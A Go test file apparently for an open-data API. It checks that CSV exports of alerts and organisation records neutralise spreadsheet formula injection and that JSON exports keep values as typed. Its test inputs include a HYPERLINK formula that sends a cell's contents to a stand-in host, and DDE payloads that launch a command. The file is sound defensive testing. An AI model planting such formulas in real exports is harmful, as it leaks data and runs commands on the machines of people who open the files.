package server_test

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/jarimu/jarimu/api"
	"github.com/jarimu/jarimu/apptest"
)

// ---- open data cannot become a spreadsheet formula -----------------------------

// hostile are texts a spreadsheet would run as formulas, as typed by an
// officer (a careless or a malicious one).
var hostile = []string{
	`=HYPERLINK("http://penipu.example/?d="&A1,"Klik untuk detail")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
}

// csvColumn maps each row's id (first column) to the named column.
func csvColumn(t testing.TB, what string, body []byte, column string) map[string]string {
	t.Helper()
	recs := parseCSV(t, what, body)
	col := -1
	for i, name := range recs[0] {
		if name == column {
			col = i
		}
	}
	if col < 0 {
		t.Fatalf("%s: no column %s in %v", what, column, recs[0])
	}
	out := map[string]string{}
	for _, rec := range recs[1:] {
		out[rec[0]] = rec[col]
	}
	return out
}

// jsonColumn maps each object's id to the named member.
func jsonColumn(t testing.TB, body []byte, member string) map[string]string {
	t.Helper()
	var rows []map[string]any
	if err := json.Unmarshal(body, &rows); err != nil {
		t.Fatalf("not a JSON array: %v", err)
	}
	out := map[string]string{}
	for _, row := range rows {
		s, _ := row[member].(string)
		out[row["id"].(string)] = s
	}
	return out
}

// Alert titles, bodies and retraction reasons, and org names and
// accreditation numbers, that begin like formulas reach the CSV with a
// leading apostrophe, so a spreadsheet shows them as text; the JSON
// datasets carry them exactly as typed; other cells are untouched.
func TestOpenCSVNeutralisesFormulas(t *testing.T) {
	apptest.Each(t, func(t *testing.T, e *apptest.Env) {
		off := e.User(t, "officer", "dki", "31")
		offNat := e.User(t, "officer", "pusat", "")
		want := map[string]map[string]string{"title": {}, "body": {}, "retraction_reason": {}, "name": {}, "accreditation_number": {}}

		for _, text := range hostile {
			b := alertBody("31")
			b["title"], b["body"] = text, text
			a := createAlert(t, e, tok(off), b)
			want["title"][a.ID], want["body"][a.ID] = text, text
			r := call(t, e, tok(off), "POST", "/v1/alerts/"+a.ID+"/retraction", map[string]any{"reason": text})
			must(t, "retract", r, http.StatusOK, "")
			want["retraction_reason"][a.ID] = text

			ob := orgBody("31", "")
			ob["name"], ob["accreditation_number"] = text, text
			r = call(t, e, tok(offNat), "POST", "/v1/orgs", ob)
			must(t, "register org", r, http.StatusCreated, "")
			var o api.Org
			r.Decode(t, &o)
			want["name"][o.ID], want["accreditation_number"][o.ID] = text, text
		}
		// A tab or carriage return can no longer be typed at the start
		// (titles refuse them, free text is trimmed); rows stored before
		// that rule are neutralised too.
		for _, text := range []string{"\t=1+1", "\r=1+1"} {
			a := createAlert(t, e, tok(off), alertBody("31"))
			exec(t, e, "UPDATE alerts SET title = ?, body = ? WHERE id = ?", text, text, a.ID)
			want["title"][a.ID], want["body"][a.ID] = text, text
		}
		plain := createAlert(t, e, tok(off), alertBody("31"))
		want["title"][plain.ID], want["body"][plain.ID] = plain.Title, plain.Body

		sets := map[string][]string{"alerts": {"title", "body", "retraction_reason"}, "orgs": {"name", "accreditation_number"}}
		for set, columns := range sets {
			csvBody := call(t, e, "", "GET", "/v1/open/"+set+".csv", nil)
			must(t, set+".csv", csvBody, http.StatusOK, "")
			jsonBody := call(t, e, "", "GET", "/v1/open/"+set+".json", nil)
			must(t, set+".json", jsonBody, http.StatusOK, "")
			for _, column := range columns {
				inCSV := csvColumn(t, set+".csv", csvBody.Body, column)
				inJSON := jsonColumn(t, jsonBody.Body, column)
				for id, text := range want[column] {
					wantCSV := text
					if text != "" && (text[0] == '=' || text[0] == '+' || text[0] == '-' || text[0] == '@' || text[0] == '\t' || text[0] == '\r') {
						wantCSV = "'" + text
					}
					// Go's CSV writer, in CRLF mode, drops carriage
					// returns inside cells (as it always did).
					wantCSV = strings.ReplaceAll(wantCSV, "\r", "")
					if got := inCSV[id]; got != wantCSV {
						t.Errorf("%s.csv %s of %s: got %q, want %q", set, column, id, got, wantCSV)
					}
					if got := inJSON[id]; got != text {
						t.Errorf("%s.json %s of %s: got %q, want %q exactly", set, column, id, got, text)
					}
				}
			}
		}
		// Cells made from numbers, times, codes, region names and fixed words are as before.
		recs := parseCSV(t, "orgs.csv", call(t, e, "", "GET", "/v1/open/orgs.csv", nil).Body)
		for _, rec := range recs[1:] {
			if rec[7] != "0" || rec[6] != "Daerah Khusus Ibukota Jakarta" || rec[5] != "31" || rec[4] != "accredited" || rec[3][0] != '2' {
				t.Errorf("orgs.csv row %v: the member count, region, status or date changed", rec)
			}
		}
	})
}
